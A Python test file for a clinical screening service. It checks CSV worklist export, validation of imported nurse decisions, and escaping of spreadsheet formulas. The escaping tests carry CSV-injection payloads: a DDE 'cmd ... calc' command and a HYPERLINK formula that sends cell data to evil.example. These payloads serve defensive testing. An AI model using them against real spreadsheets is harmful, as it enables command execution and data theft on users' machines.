"""The list as CSV, and decisions brought back in it."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from assessments import verdict
from ledgers import NOON, decision
from nights import DAY, EHR, key, run, screened, stored

from cds_service.errors import SourceError
from cds_service.reports.decision_files import read_decisions
from cds_service.reports.lists import csv_cell, csv_line
from cds_service.reports.worklists import WORKLIST_COLUMNS, csv_of
from cds_service.screening.deciding import Imported, import_decisions
from cds_service.screening.entries import Decided, Decision, PatientKey
from cds_service.screening.worklist import read_worklist
from cds_service.store.memory import memory_ledger
from cds_service.store.memory_worklists import MemoryWorklist
from cds_service.store.opening import RunStore

NOW = NOON + timedelta(days=1)
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", " =", "\u00a0="]


@pytest.mark.parametrize("sign", SIGNS, ids=[f"{ord(sign[-1]):x}-{len(sign)}" for sign in SIGNS])
def test_no_cell_is_a_formula(sign: str) -> None:
    assert csv_cell(f"{sign}cmd|' /C calc'!A0") == f"'{sign}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"), [("a=b", "a=b"), ("", ""), (None, ""), (-3, "-3"), (0, "0"), (date(2026, 12, 8), "2026-12-08")]
)
def test_what_is_none_is_left_as_it_is(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


class Desk:
    """A list in memory, with its decisions."""

    def __init__(self) -> None:
        self.book = MemoryWorklist()
        self.decisions = memory_ledger(lambda: NOW).decisions

    def screen(self, name: str, night: int, *found: object) -> None:
        stored(RunStore(self.book, self.book, lambda: None), run(name, night), *found)

    def csv(self, day: date = DAY) -> str:
        holding = asyncio.run(self.decisions.holding("extend-op"))
        worklist = read_worklist(self.book, holding, "extend-op", day)

        def document(entry: object) -> bytes:
            return self.book.documents([entry.stored.number])[entry.stored.number]

        return "".join(csv_of(worklist.entries, worklist.day, document))

    def rows(self, day: date = DAY) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.csv(day))))

    def bring_in(self, path: Path, by: str = "") -> Imported:
        return asyncio.run(import_decisions(read_decisions(path, "extend-op", NOW, by), self.decisions, self.book))

    def history(self, patient: str = "anna") -> tuple[Decision, ...]:
        return asyncio.run(self.decisions.history(key(patient), "extend-op"))


@pytest.fixture
def desk() -> Desk:
    return Desk()


def test_a_row_says_who_why_until_when_and_what_changed(desk: Desk) -> None:
    desk.screen("r1", 0, screened("anna", {"ecog": "unknown"}), screened("bert"), screened("carl"))
    desk.screen("r2", 1, screened("anna", closes=date(2026, 11, 29)), screened("bert", {"age": "fail"}))
    rows = {row["patient"]: row for row in desk.rows(date(2026, 11, 23))}
    anna, bert, carl = rows["Patient/anna"], rows["Patient/bert"], rows["Patient/carl"]
    assert list(anna) == list(WORKLIST_COLUMNS)
    assert (anna["rank"], anna["status"], anna["server"], anna["as_of"]) == ("1", "candidate", EHR, "2026-11-22")
    assert (anna["window_closes"], anna["days_left"], anna["expires_soon"]) == ("2026-11-29", "6", "yes")
    assert (anna["change"], anna["because"]) == ("changed", "ecog: unknown, now pass")
    assert (bert["change"], bert["because"]) == ("off the list", "age")
    assert carl["change"] == "vanished"
    assert carl["because"] == "No longer in the source, or without any recorded evidence of cancer"


def test_words_of_a_record_are_no_formula_in_the_list(desk: Desk) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1,"Colon")'
    desk.screen("r1", 0, screened("anna", verdicts=(verdict("histology", "pass", evil),)))
    (row,) = desk.rows()
    assert row["histology"] == f"'{evil}"


def test_a_list_that_was_filled_in_comes_back_and_twice_is_once(desk: Desk, tmp_path: Path) -> None:
    desk.screen("r1", 0, screened("anna"), screened("bert"), screened("carl"))
    rows = desk.rows()
    note = '-wants to think; back on\n1 Dec, "maybe"'
    filled = {"decision": "Refused", "decided_by": "A. Nurse", "decided_at": "2026-11-22T09:30:00+01:00", "note": note}
    for row in rows:
        row.update(filled if row["patient"] == "Patient/anna" else {})
    path = tmp_path / "list.csv"
    path.write_text("".join([csv_line(WORKLIST_COLUMNS), *(csv_line(map(csv_cell, row.values())) for row in rows)]))
    assert desk.bring_in(path) == Imported(recorded=1)
    at = datetime(2026, 11, 22, 8, 30, tzinfo=UTC)
    assert desk.history() == (Decision(key("anna"), "extend-op", Decided.REFUSED, "A. Nurse", at, note),)
    assert desk.bring_in(path) == Imported(known=1)
    again = tmp_path / "again.csv"
    again.write_text(desk.csv())
    assert desk.bring_in(again) == Imported(known=1)
    assert len(desk.history()) == 1


def test_a_decision_that_is_not_later_than_what_holds_is_left_out(desk: Desk, tmp_path: Path) -> None:
    held = decision(Decided.ENROLLED, patient=key("anna"), at=NOON)
    asyncio.run(desk.decisions.record(held))
    path = tmp_path / "list.csv"
    path.write_text(
        "patient,server,decision,decided_at,decided_by\n"
        f"Patient/anna,{EHR},refused,2026-11-21,N\n"
        f"Patient/anna,{EHR},screened,2026-11-22T12:00:00Z,N\n"
    )
    assert desk.bring_in(path) == Imported(older=2, unmet=0)
    assert desk.history() == (held,)


def test_several_about_one_patient_are_taken_in_the_order_made(desk: Desk, tmp_path: Path) -> None:
    desk.screen("r1", 0, screened("anna"))
    path = tmp_path / "list.csv"
    path.write_text(
        "patient,server,decision,decided_at\n"
        f"Patient/anna,{EHR},reopened,2026-11-22\n"
        f"Patient/anna,{EHR},refused,2026-11-20\n"
        f"{EHR}/Patient/never-assessed,,not eligible,2026-11-21\n"
    )
    assert desk.bring_in(path, by="A. Nurse") == Imported(recorded=3, unmet=1)
    assert [one.decided for one in desk.history()] == [Decided.REFUSED, Decided.REOPENED]
    assert {one.by for one in desk.history()} == {"A. Nurse"}
    assert [one.decided for one in desk.history("never-assessed")] == [Decided.NOT_ELIGIBLE]


def test_a_list_as_exported_holds_no_decision(desk: Desk, tmp_path: Path) -> None:
    desk.screen("r1", 0, screened("anna"))
    path = tmp_path / "list.csv"
    path.write_text(desk.csv())
    assert desk.bring_in(path) == Imported()


# row after the heading | what is said
BAD_ROWS = [
    ("Patient/a,perhaps,2026-11-22,N,", "line 3: decision is not one of screened, refused, enrolled, not_eligible"),
    ("Patient/a,refused,yesterday,N,", "line 3: decided_at is not a day or an instant"),
    ("Patient/a,refused,,N,", "line 3: decided_at is not a day or an instant"),
    ("Patient/a,refused,2026-12-24,N,", "line 3: decided_at is in the future"),
    ("Patient/a,refused,2026-11-22,,", "line 3: decided_by is empty (or name one for all with --by)"),
    (",refused,2026-11-22,N,", "line 3: patient is not a reference like Patient/123"),
    ("Group/a/b,refused,2026-11-22,N,", "line 3: patient is not a reference like Patient/123"),
    (f"Patient/a,refused,2026-11-22,{'N' * 201},", "line 3: decided_by is too long"),
    (f"Patient/a,refused,2026-11-22,N,{'n' * 2001}", "line 3: the note is longer than 2000 characters"),
]


@pytest.mark.parametrize(("row", "said"), BAD_ROWS, ids=[said[:40] for _, said in BAD_ROWS])
def test_a_bad_row_is_told_by_line_and_reason_and_nothing_is_taken_in(
    desk: Desk, tmp_path: Path, row: str, said: str
) -> None:
    path = tmp_path / "list.csv"
    good = "Patient/good,refused,2026-11-22,N,"
    path.write_text(f"patient,decision,decided_at,decided_by,note\n{good}\n{row}\n")
    with pytest.raises(SourceError) as caught:
        desk.bring_in(path)
    assert str(caught.value).startswith("nothing was imported: ")
    assert said in str(caught.value)
    assert asyncio.run(desk.decisions.history(PatientKey("", "good"), "extend-op")) == ()


def test_all_bad_rows_are_told_at_once(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("patient,decision,decided_at,decided_by\n" + "Patient/a,perhaps,2026-11-22,N\n" * 22)
    with pytest.raises(SourceError, match=r"line 2: .*line 3: .*; and 2 more"):
        desk.bring_in(path)


FILES = [
    (b"patient,decision\nPatient/a,refused\n", "the file has no column decided_at: export the worklist"),
    (b"", "the file has no column patient, decision, decided_at"),
    (b"patient,decision,decided_at\nPatient/\xff,refused,2026-11-22\n", "cannot be read as CSV in UTF-8"),
    (b'patient,decision,decided_at\n"Patient/a,refused', "cannot be read as CSV in UTF-8"),
]


@pytest.mark.parametrize(("content", "said"), FILES, ids=["column", "empty", "latin-1", "quote"])
def test_a_file_that_is_no_list_is_told(desk: Desk, tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(content)
    with pytest.raises(SourceError, match=said):
        desk.bring_in(path)


def test_a_spreadsheets_mark_at_the_beginning_is_no_hindrance(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes("\ufeffpatient,decision,decided_at\r\nPatient/a,screened,2026-11-22\r\n".encode())
    assert desk.bring_in(path, by="N") == Imported(recorded=1, unmet=1)
